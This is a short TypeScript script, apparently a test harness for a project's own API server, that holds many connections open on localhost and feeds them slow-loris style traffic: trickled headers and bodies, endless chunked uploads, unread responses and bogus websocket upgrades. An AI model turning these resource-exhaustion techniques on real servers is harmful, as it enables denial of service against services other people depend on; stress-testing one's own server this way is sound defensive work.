/**
 * A process that holds so many connections, and opens another one for each that it loses:
 * attacker.ts <port or path> <kind> <count> <authorization>. It says a line for each thousand that it has opened.
 */
import { createConnection, type Socket } from "node:net";

const [place = "", kind = "", count = "0", authorization = ""] = process.argv.slice(2);
const port = Number(place);
const at = Number.isNaN(port) ? { path: place } : { host: "127.0.0.1", port };
const host = Number.isNaN(port) ? "localhost" : `localhost:${port}`;
const head = (first: string, ...more: string[]) =>
  [`${first} HTTP/1.1`, `Host: ${host}`, `Authorization: ${authorization}`, ...more].join("\r\n");
const END = "\r\n\r\n";
const TRICKLE_MS = 1000;
const CHUNK = `4000\r\n${"x".repeat(0x4000)}\r\n`;

function again(socket: Socket, say: () => void): void {
  const timer = setInterval(say, TRICKLE_MS);
  socket.on("close", () => clearInterval(timer));
}

const KINDS: Readonly<Record<string, (socket: Socket) => void>> = {
  silent() {},
  "slow-head"(socket) {
    socket.write(head("GET /v1/agents", "X-Slow: "));
    again(socket, () => socket.write("x"));
  },
  "slow-body"(socket) {
    socket.write(head("POST /v1/agents", "Content-Length: 50000") + END);
    again(socket, () => socket.write(" "));
  },
  "endless-body"(socket) {
    socket.write(head("POST /v1/agents", "Transfer-Encoding: chunked") + END);
    socket.on("drain", () => socket.write(CHUNK));
    socket.write(CHUNK);
  },
  unread(socket) {
    socket.pause();
    for (let n = 0; n < 20; n++) socket.write(head("GET /openapi.json") + END);
  },
  "bad-upgrade"(socket) {
    socket.write(head("GET /elsewhere", "Connection: upgrade", "Upgrade: websocket") + END);
  },
};

let opened = 0;
function open(): void {
  const socket = createConnection({ ...at, allowHalfOpen: true }, () => {
    opened++;
    if (opened % 1000 === 0) console.log(opened);
    KINDS[kind]?.(socket);
  });
  socket.on("error", () => {}).on("close", () => setTimeout(open, 10));
}
for (let n = 0; n < Number(count); n++) open();
